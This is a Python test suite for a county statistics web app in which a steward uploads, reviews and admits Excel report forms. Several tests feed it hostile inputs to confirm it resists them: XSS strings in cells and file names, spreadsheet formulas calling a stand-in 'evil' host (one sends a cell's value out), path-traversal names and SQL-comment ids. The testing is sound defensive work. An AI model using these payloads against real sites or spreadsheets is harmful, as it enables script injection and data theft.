"""The steward's pages: one admission in a real browser from upload to live, the keyboard, and what people try to smuggle in."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from httpx import Response
from openpyxl import Workbook, load_workbook
from playwright.sync_api import Page

from consolidation.desk import admission, conflicts, dispatch, drafts, matching
from consolidation.desk.context import Desk
from forms.periods import Period
from tests.browser import needs_browser, page, served
from tests.consolidation.desk.county import STEWARD, WANG, WILLOW, sheet
from tests.consolidation.desk.test_steward import AGEING, AGEING_2, BASIS, BEDS, live, proposal
from tests.desk_people import GOOD, cheap_hashes  # noqa: F401 - a fixture
from tests.web.county import County, county
from tests.web.desk import csrf, type_sign_in
from web.desk_app import create_desk_app


@pytest.fixture
def found(tmp_path: Path, cheap_hashes: None) -> Iterator[County]:  # noqa: F811
    with county(tmp_path) as one:
        yield one


@pytest.fixture
def desk(found: County) -> Desk:
    return found.desk


class Asking:
    """Somebody signed in, whose forms carry the page's own token."""

    def __init__(self, desk: Desk, who: str) -> None:
        self.client = TestClient(create_desk_app(desk), base_url="http://127.0.0.1", raise_server_exceptions=False)
        data = {"csrf": csrf(self.client), "login": who, "password": GOOD, "next": "/account"}
        assert self.client.post("/sign-in", data=data).status_code == 200
        self.token = csrf(self.client, "/account")

    def get(self, path: str) -> Response:
        return self.client.get(path)

    def post(self, path: str, data: Mapping[str, object], files: Mapping[str, tuple[str, bytes]] | None = None) -> Response:
        return self.client.post(path, data={"csrf": self.token, **data}, files=files)


def client(desk: Desk, who: str = "steward") -> Asking:
    return Asking(desk, who)


@contextmanager
def browsing(desk: Desk, width: int = 1366, height: int = 768) -> Iterator[tuple[Page, str]]:
    """A browser in which the steward has signed in, and the address."""
    with served(create_desk_app(desk)) as url, page(width, height) as tab:
        tab.goto(url)
        type_sign_in(tab, "steward", GOOD)
        tab.wait_for_url(lambda to: "sign-in" not in to)
        yield tab, url


ABOUT = {"department": "卫健局", "frequency": "monthly", "level": "village", "basis": BASIS}


def upload(desk: Desk, data: bytes, name: str = "老龄.xlsx", **about: str) -> str:
    """The page that answers an upload."""
    answer = client(desk).post("/steward/admission", files={"file": (name, data)}, data={**ABOUT, **about})
    assert answer.status_code in (200, 409, 422)
    return answer.text


@needs_browser
def test_a_form_is_admitted_in_the_browser_from_upload_to_live(desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "养老床位.xlsx"
    path.write_bytes(sheet(BEDS + "老年食堂 | 个 |\n60岁以上户籍人口 | 人 |\n"))
    with browsing(desk) as (tab, url):
        tab.goto(f"{url}/steward")
        tab.get_by_role("link", name="报表准入").click()
        tab.get_by_label("空白报表").set_input_files(path)
        tab.get_by_label("发表部门").fill("卫健局")
        tab.get_by_label("依据").fill(BASIS)
        tab.get_by_role("button", name="上传并比对").click()
        assert "3 栏" in tab.locator("#verdict").inner_text() and "新增" in tab.locator("#verdict").inner_text()
        assert "第十九条" in tab.inner_text("main")
        tab.get_by_role("link", name="Sheet", exact=True).click()
        assert "待填" in tab.locator("td", has_text="待填").first.inner_text()
        tab.get_by_role("link", name="← 养老床位情况统计表").click()
        waiting = tab.get_by_role("button", name="不是同一项", exact=True)
        while waiting.count():
            waiting.first.click()
        tab.get_by_label("从哪个报告期起").fill("2026-11")
        tab.get_by_role("button", name="启用").click()
        assert "在用，自 2026-11 起" in tab.inner_text("main")
        tab.goto(f"{url}/steward/forms")
        assert "养老床位情况统计表" in tab.inner_text("main")
    assert len(dispatch.due_forms(desk, Period.parse("2026-11"))) == 3


@needs_browser
def test_doubtful_pairs_are_settled_with_the_keyboard_alone(desk: Desk) -> None:
    live(desk, table=BEDS)
    matching.withdraw(desk, STEWARD, matching.made(desk, STEWARD)[0].seq)
    with browsing(desk) as (tab, url):
        tab.goto(f"{url}/steward/review")
        tab.get_by_label("理由").fill("yn")  # letters that somebody types decide nothing
        assert "还有 1 对" in tab.inner_text("main")
        tab.goto(f"{url}/steward/review")
        with tab.expect_navigation():
            tab.keyboard.press("y")
        assert "还有 0 对，已确认 1 对" in tab.inner_text("main")
        tab.goto(f"{url}/steward/review/decisions")
        tab.get_by_role("button", name=re.compile("撤回")).click()
        tab.goto(f"{url}/steward/review")
        assert "还有 1 对" in tab.inner_text("main")


@needs_browser
@pytest.mark.slow
@pytest.mark.parametrize(("width", "height"), [(360, 740), (1366, 768)])
def test_no_page_is_wider_than_the_screen(desk: Desk, width: int, height: int) -> None:
    name = live(desk)
    again = admission.propose(desk, STEWARD, proposal(AGEING_2, name))
    beds = admission.propose(desk, STEWARD, proposal(BEDS))
    paths = ["", "/admission", f"/admission/{name}/{again.version}", f"/admission/{beds.form}/1", f"/admission/{beds.form}/1/sheet/1",
             "/forms", f"/forms/{name}", "/elements", "/review", "/review/decisions", "/review/definitions", "/conflicts"]  # fmt: skip
    with browsing(desk, width, height) as (tab, url):
        for path in paths:
            tab.goto(f"{url}/steward{path}")
            wide = tab.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
            assert wide <= 0, path


def test_what_stands_in_a_forms_cells_is_text_on_every_page(desk: Desk) -> None:
    evil = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    table = f"""
    村{evil}统计表
    指标名称 | 计量单位 | 数值
    {evil} | 人 |
    老年学校 | "><b>所 |
    =HYPERLINK("http://evil") | 个 |
    """
    text = upload(desk, sheet(table), "'\"><svg onload=alert(3)>.xlsx", department="卫<b>健局")
    (one,) = admission.proposals(desk, STEWARD)
    pages = [text] + [
        client(desk).get(path).text
        for path in ("/steward", "/steward/admission", f"/steward/admission/{one.form}/1/sheet/1", "/steward/forms")
    ]
    for text in pages:
        assert not re.search(r"<script>|<img|<svg|<b>|onerror=alert\(2\)>(?!&)", re.sub(r"&lt;.*?&gt;", "", text))
    assert any("&lt;script&gt;" in text for text in pages)


def test_a_formula_is_shown_and_never_run_or_followed(desk: Desk) -> None:
    book = load_workbook(io.BytesIO(sheet(AGEING)))
    active = book.active
    assert active is not None
    active["C3"] = '=WEBSERVICE("http://evil/"&C4)'
    target = io.BytesIO()
    book.save(target)
    upload(desk, target.getvalue())
    (one,) = admission.proposals(desk, STEWARD)
    assert "公式" in client(desk).get(f"/steward/admission/{one.form}/1/sheet/1").text


@pytest.mark.parametrize(("name", "data"), [("a.xlsx", b""), ("a.exe", b"MZ"), ("../../a.xlsx", b"PK\x03\x04x"), ("", b"x")])
def test_what_is_no_form_gives_the_page_again_with_the_remedy(desk: Desk, name: str, data: bytes) -> None:
    answer = client(desk).post("/steward/admission", files={"file": (name or "x", data)}, data=ABOUT)
    assert answer.status_code == 422 and "没有办成" in answer.text and 'value="卫健局"' in answer.text


def test_a_huge_workbook_is_refused_quickly(desk: Desk) -> None:
    book = Workbook(write_only=True)
    page_ = book.create_sheet("数据")
    for _ in range(7_000):
        page_.append(["张三"] * 10)
    target = io.BytesIO()
    book.save(target)
    assert "像是数据" in upload(desk, target.getvalue())


GETS = ["/steward", "/steward/admission", "/steward/admission/renkou/1", "/steward/admission/renkou/1/sheet/1",
        "/steward/review", "/steward/review/decisions", "/steward/review/definitions", "/steward/conflicts",
        "/steward/conflicts/1"]  # fmt: skip
POSTS = ["/steward/admission/renkou/1/match", "/steward/admission/renkou/1/decide", "/steward/forms/renkou", "/steward/review",
         "/steward/review/decisions", "/steward/conflicts/1"]  # fmt: skip
FIELDS = {"answer": "live", "valid_from": "2026-11", "pair": "a-b", "decision": "1", "version": "1", "take": "first", "reason": "x",
          "department": "局", "frequency": "monthly", "basis": BASIS}  # fmt: skip


@pytest.mark.parametrize("who", ["wang", "leader", "stranger"])
def test_other_roles_open_nothing_and_change_nothing(desk: Desk, who: str) -> None:
    asked = client(desk, who)
    assert {path: asked.get(path).status_code for path in GETS} == dict.fromkeys(GETS, 403)
    answers = {
        path: [asked.post(path, data={**FIELDS, "answer": a}).status_code for a in ("live", "edit", "same")] for path in POSTS
    }
    assert all(
        status in (403, 404) or (status == 200 and path.endswith("renkou")) for path, all_ in answers.items() for status in all_
    )
    assert asked.post("/steward/admission", files={"file": ("a.xlsx", sheet(AGEING))}, data=ABOUT).status_code == 403
    assert admission.proposals(desk, STEWARD) == ()


@pytest.mark.parametrize("id_", ["%00", "..%2f..", "a'--", "9" * 30, "-1", "x" * 500, "<b>"])
def test_forged_ids_are_no_pages(desk: Desk, id_: str) -> None:
    asked = client(desk)
    for path in (f"/steward/admission/{id_}/1", f"/steward/admission/renkou/{id_}", f"/steward/admission/renkou/1/sheet/{id_}",
                 f"/steward/forms/{id_}", f"/steward/forms/renkou/{id_}/template", f"/steward/elements/{id_}",
                 f"/steward/conflicts/{id_}", f"/steward/conflicts?place={id_}"):  # fmt: skip
        assert asked.get(path).status_code in (400, 404, 422), path
    for path in POSTS:
        answer = asked.post(path, data={key: id_ for key in (*FIELDS, "third", "last")} | {"answer": "same"})
        assert answer.status_code < 500, path


def test_a_template_is_taken_away_as_a_file(desk: Desk) -> None:
    answer = client(desk).get("/steward/forms/renkou/1/template")
    assert answer.headers["content-disposition"].startswith("attachment;") and answer.content[:2] == b"PK"
    assert answer.headers["content-type"] == "application/octet-stream"


def test_a_worker_disputes_a_steward_settles_and_the_worker_reads_the_answer(found: County) -> None:
    drafts.dispute(found.desk, WANG, WILLOW, "2026-10", found.element("户籍人口"), "少了<b>一人", "3")
    (one,) = conflicts.conflicts(found.desk, STEWARD)
    steward = client(found.desk)
    assert "少了&lt;b&gt;一人" in steward.get("/steward/conflicts").text
    form = {"version": one.version, "take": "third", "third": "四个", "reason": "复核"}
    again = steward.post(f"/steward/conflicts/{one.seq}", data=form)
    assert again.status_code == 422 and "没有办成" in again.text
    assert "另定：复核" in steward.post(f"/steward/conflicts/{one.seq}", data={**form, "third": "4"}).text
    assert "另定：复核" in client(found.desk, "wang").get("/disputes").text
    assert "另定：复核" not in client(found.desk, "stranger").get("/disputes").text
